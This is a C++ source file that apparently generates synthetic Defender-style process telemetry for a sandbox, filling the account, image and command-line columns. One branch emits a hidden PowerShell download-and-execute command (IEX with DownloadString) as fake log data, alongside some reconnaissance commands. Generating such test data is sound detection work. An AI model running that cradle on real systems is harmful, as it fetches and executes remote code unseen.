// Processes: what DeviceProcessEvents tells, and the InitiatingProcess columns of the other device
// tables.
#include "sandbox/event.hpp"
#include "sandbox/hash.hpp"

namespace harrier::sandbox {
namespace {

Cell unique_id(Event& e, const Process& process) {
  // Large enough that a double would lose its last digits.
  return e.format("{}", 9'007'199'254'740'993ULL + mix(process.hash) % 1'000'000'000);
}

Cell path(Event& e, const Process& process) {
  return e.format("{}{}{}", process.image->folder, process.device->os == Os::windows ? "\\" : "/",
                  process.image->file);
}

Cell command_line(Event& e, const Process& process) {
  const auto& file = process.image->file;
  if (process.is_download) {
    return e.format(
        "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient)."
        "DownloadString('http://{}/{}.ps1')\"",
        process.host, hex_text(process.hash, 6));
  }
  if (process.device->os != Os::windows) {
    return e.format("{}/{} --config /etc/{}.conf -n {}", process.image->folder, file, file,
                    process.hash % 1000);
  }
  if (file == "WINWORD.EXE" || file == "OUTLOOK.EXE") {
    return e.format("\"{}\\{}\" /n \"C:\\Users\\{}\\Documents\\Entwurf {} – Müller.docx\"",
                    process.image->folder, file,
                    process.user == nullptr ? "Public" : process.user->name, process.hash % 500);
  }
  if (file == "svchost.exe")
    return e.format("svchost.exe -k netsvcs -p -s Schedule{}", process.hash % 90);
  if (file == "net.exe") return e.format("net user /domain {}", process.hash % 100);
  if (file == "reg.exe") {
    return e.format("reg query \"HKLM\\SOFTWARE\\Vendor{}\" /v \"Setting\"", process.hash % 300);
  }
  return e.format("\"{}\\{}\" /c echo {}", process.image->folder, file, process.hash % 100'000);
}

Cell user_text(const Process& p, std::string User::*field, std::string_view system) {
  return Event::fixed(p.user == nullptr ? system : std::string_view(p.user->*field));
}

using Which = const Process& (*)(Event&);

const Process& own(Event& e) {
  return e.process();
}

const Process& by(Event& e) {
  return e.initiator();
}

const Process& above(Event& e) {
  return e.initiator_parent();
}

template <Which which>
void register_account(FillMap& fills, const std::string& prefix) {
  fills[prefix + "AccountName"] = [](Event& e) {
    return user_text(which(e), &User::name, "system");
  };
  fills[prefix + "AccountSid"] = [](Event& e) {
    return user_text(which(e), &User::sid, "S-1-5-18");
  };
  fills[prefix + "AccountUpn"] = [](Event& e) { return user_text(which(e), &User::upn, ""); };
  fills[prefix + "AccountObjectId"] = [](Event& e) {
    return user_text(which(e), &User::object_id, "");
  };
  fills[prefix + "AccountDomain"] = [](Event& e) {
    return Event::fixed(which(e).user == nullptr ? "nt authority" : "contoso");
  };
  fills[prefix + "LogonId"] = [](Event& e) {
    return Event::number(which(e).user == nullptr ? 999 : 100'000 + mix(which(e).hash) % 9'000'000);
  };
}

template <Which which>
void register_image(FillMap& fills, const std::string& prefix, const std::string& info) {
  fills[prefix + "FileName"] = [](Event& e) { return Event::fixed(which(e).image->file); };
  fills[prefix + "FolderPath"] = [](Event& e) { return path(e, which(e)); };
  fills[prefix + "SHA1"] = [](Event& e) { return Event::fixed(which(e).image->sha1); };
  fills[prefix + "SHA256"] = [](Event& e) { return Event::fixed(which(e).image->sha256); };
  fills[prefix + "MD5"] = [](Event& e) { return Event::fixed(which(e).image->md5); };
  fills[prefix + "FileSize"] = [](Event& e) { return Cell::of_integer(which(e).image->size); };
  fills[info + "CompanyName"] = [](Event& e) { return Event::fixed(which(e).image->company); };
  fills[info + "ProductName"] = [](Event& e) { return Event::fixed(which(e).image->product); };
  fills[info + "ProductVersion"] = [](Event& e) { return Event::fixed(which(e).image->version); };
  fills[info + "InternalFileName"] = [](Event& e) { return Event::fixed(which(e).image->file); };
  fills[info + "OriginalFileName"] = [](Event& e) { return Event::fixed(which(e).image->file); };
  fills[info + "FileDescription"] = [](Event& e) {
    return Event::fixed(which(e).image->description);
  };
}

template <Which which>
void register_process(FillMap& fills, const std::string& prefix) {
  fills[prefix + "Id"] = [](Event& e) { return Cell::of_integer(which(e).pid); };
  fills[prefix + "CreationTime"] = [](Event& e) { return Event::at(which(e).created); };
  fills[prefix + "CommandLine"] = [](Event& e) { return command_line(e, which(e)); };
  fills[prefix + "UniqueId"] = [](Event& e) { return unique_id(e, which(e)); };
  fills[prefix + "IntegrityLevel"] = [](Event& e) {
    if (which(e).device->os != Os::windows) return Event::fixed("");
    return Event::fixed(which(e).user == nullptr ? "System" : "Medium");
  };
  fills[prefix + "TokenElevation"] = [](Event& e) {
    if (which(e).device->os != Os::windows) return Event::fixed("");
    return Event::fixed(which(e).user == nullptr ? "TokenElevationTypeDefault"
                                                 : "TokenElevationTypeLimited");
  };
  fills[prefix + "SessionId"] = [](Event& e) {
    return Event::number(which(e).user == nullptr ? 0 : 1);
  };
}

}  // namespace

void register_processes(FillMap& fills) {
  register_account<by>(fills, "InitiatingProcess");
  register_image<by>(fills, "InitiatingProcess", "InitiatingProcessVersionInfo");
  register_process<by>(fills, "InitiatingProcess");
  fills["InitiatingProcessParentId"] = [](Event& e) { return Cell::of_integer(above(e).pid); };
  fills["InitiatingProcessParentFileName"] = [](Event& e) {
    return Event::fixed(above(e).image->file);
  };
  fills["InitiatingProcessParentCreationTime"] = [](Event& e) {
    return Event::at(above(e).created);
  };
  fills["IsInitiatingProcessRemoteSession"] = [](Event& e) {
    return Event::flag(by(e).hash % 20 == 0);
  };
  fills["InitiatingProcessRemoteSessionDeviceName"] = [](Event&) { return Event::fixed(""); };
  fills["InitiatingProcessRemoteSessionIP"] = [](Event&) { return Event::fixed(""); };
  fills["InitiatingProcessSignerType"] = [](Event& e) {
    return Event::fixed(by(e).image->company.empty() ? "Unknown" : "OsVendor");
  };
  fills["InitiatingProcessSignatureStatus"] = [](Event& e) {
    return Event::fixed(by(e).image->company.empty() ? "Unsigned" : "Valid");
  };
  fills["AppGuardContainerId"] = [](Event&) { return Event::fixed(""); };
  fills["LogonID"] = [](Event& e) { return Event::number(mix(e.process().hash) % 5'000'000); };

  FillMap process_table;
  register_account<own>(process_table, "");
  register_image<own>(process_table, "", "ProcessVersionInfo");
  register_process<own>(process_table, "Process");
  for (const auto& [column, fill] : process_table) fills["DeviceProcessEvents." + column] = fill;
  fills["DeviceProcessEvents.ActionType"] = [](Event&) { return Event::fixed("ProcessCreated"); };
  fills["DeviceProcessEvents.CreatedProcessSessionId"] = [](Event& e) {
    return Event::number(own(e).user == nullptr ? 0 : 1);
  };
  fills["DeviceProcessEvents.IsProcessRemoteSession"] = [](Event& e) {
    return Event::flag(own(e).hash % 20 == 0);
  };
  fills["DeviceProcessEvents.AdditionalFields"] = [](Event& e) {
    if (e.hash(30) % 3 == 0) return Event::null();
    return e.format(R"({{"ProcessPosixProcessGroupId":{},"DesiredAccess":{}}})", own(e).pid,
                    e.hash(31) % 2048);
  };
}

}  // namespace harrier::sandbox
